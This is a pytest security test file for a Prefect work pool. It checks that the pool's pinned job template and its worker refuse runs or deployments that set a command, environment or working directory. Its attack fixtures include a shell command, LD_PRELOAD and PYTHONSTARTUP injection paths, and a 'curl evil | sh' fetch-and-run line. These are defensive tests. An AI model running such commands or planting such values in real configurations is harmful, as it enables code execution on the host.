"""Issue 21 item 4: the stack's work pool runs only what the deployment says.

Fast checks without a server: the pool's pinned job template exposes no job variable and holds
fixed values, and radops' worker builds a run's configuration from that template alone and
refuses a run that sets job variables (``command``, ``env``, ``working_dir``) before anything
starts. The same refusal against a real Prefect server and worker:
tests/security/test_scheduler.py::test_stack_pool_runs_no_command_a_run_request_names.
"""

from __future__ import annotations

import asyncio
import uuid
from pathlib import Path
from typing import Any

import pytest
from prefect.client.schemas.objects import Flow, FlowRun, WorkPool
from prefect.workers.process import ProcessJobConfiguration, ProcessWorker

from flows.retrain import ROOT_ENV
from ops.work_pool import pinned_template, worker_class
from pipeline.errors import ConfigError

ATTACKS: list[dict[str, Any]] = [
    {"command": "sh -c 'id > /tmp/radops-owned'"},
    {"env": {"PYTHONPATH": "/tmp/evil", "LD_PRELOAD": "/tmp/evil.so"}},
    {"working_dir": "/etc"},
    {"env.PYTHONSTARTUP": "/tmp/evil.py"},
]


class FakeClient:
    """What resolve_for_flow_run asks the API for (no server needed)."""

    def __init__(self, deployment: Any = None) -> None:
        self.deployment = deployment

    async def read_flow(self, flow_id: uuid.UUID) -> Flow:
        return Flow(id=flow_id, name="radops-retrain")

    async def read_deployment(self, deployment_id: uuid.UUID) -> Any:
        return self.deployment


def _resolve(root: Path, flow_run: FlowRun, server_template: dict[str, Any]) -> Any:
    config = worker_class(root).job_configuration
    pool = WorkPool(name="radops-pool", type="process", base_job_template=server_template)
    return asyncio.run(
        config.resolve_for_flow_run(
            flow_run,
            client=FakeClient(),  # type: ignore[arg-type]
            work_pool=pool,
            worker_name="radops-worker-0",
        )
    )


def test_pinned_template_exposes_no_job_variable(tmp_path: Path) -> None:
    template = pinned_template(tmp_path)
    assert template["variables"]["properties"] == {}
    assert template["variables"]["additionalProperties"] is False
    fixed = template["job_configuration"]
    assert "{{" not in repr(fixed)  # no placeholder a variable could fill
    assert fixed["command"] is None  # the worker's own `python -m prefect.engine`
    assert fixed["working_dir"] == str(tmp_path.resolve())
    assert fixed["env"] == {ROOT_ENV: str(tmp_path.resolve())}
    # Prefect's default exposes exactly what an attacker would set
    default = ProcessWorker.get_default_base_job_template()["variables"]["properties"]
    assert {"command", "env", "working_dir"} <= set(default)
    # Filling the pinned template with those values changes no command and no folder
    values = {"command": "touch /tmp/x", "working_dir": "/tmp"}
    config = asyncio.run(
        ProcessJobConfiguration.from_template_and_values(template, values, client=object())  # type: ignore[arg-type]
    )
    assert config.command is None and config.working_dir == tmp_path.resolve()


@pytest.mark.parametrize("job_variables", ATTACKS, ids=lambda v: sorted(v)[0])
def test_the_worker_refuses_a_run_that_sets_job_variables(
    tmp_path: Path, job_variables: dict[str, Any]
) -> None:
    run = FlowRun(flow_id=uuid.uuid4(), name="nightly", job_variables=job_variables)
    with pytest.raises(ConfigError, match="sets job variables"):
        _resolve(tmp_path, run, pinned_template(tmp_path))


def test_the_worker_uses_its_pinned_template_not_the_servers(tmp_path: Path) -> None:
    """Even if the server's copy of the pool template were edited back to Prefect's default
    (an auth-string holder can), a run gets the fixed command, folder and environment."""
    run = FlowRun(flow_id=uuid.uuid4(), name="nightly", job_variables={})
    config = _resolve(tmp_path, run, ProcessWorker.get_default_base_job_template())
    assert config.working_dir == tmp_path.resolve()
    assert config.env[ROOT_ENV] == str(tmp_path.resolve())
    assert config.command.endswith("-m prefect.engine")
    assert not config._command_configured  # Prefect's engine, not a configured command


def test_a_deployment_with_job_variables_is_refused_too(tmp_path: Path) -> None:
    from types import SimpleNamespace

    run = FlowRun(flow_id=uuid.uuid4(), deployment_id=uuid.uuid4(), name="nightly")
    deployment = SimpleNamespace(job_variables={"command": "curl evil | sh"})
    config = worker_class(tmp_path).job_configuration
    pool = WorkPool(name="radops-pool", type="process", base_job_template=pinned_template(tmp_path))
    with pytest.raises(ConfigError, match=r"\['command'\]"):
        asyncio.run(
            config.resolve_for_flow_run(
                run,
                client=FakeClient(deployment),  # type: ignore[arg-type]
                work_pool=pool,
                worker_name="w",
            )
        )


def test_the_retraining_deployment_sets_no_job_variables(tmp_path: Path) -> None:
    import shutil

    from flows.retrain import deployment

    shutil.copy(Path(__file__).resolve().parents[2] / "params.yaml", tmp_path / "params.yaml")
    (tmp_path / "flows").mkdir()
    shutil.copy(Path(__file__).resolve().parents[2] / "flows" / "retrain.py", tmp_path / "flows")
    deployed = deployment(tmp_path, work_pool_name="radops-pool")
    assert not deployed.job_variables
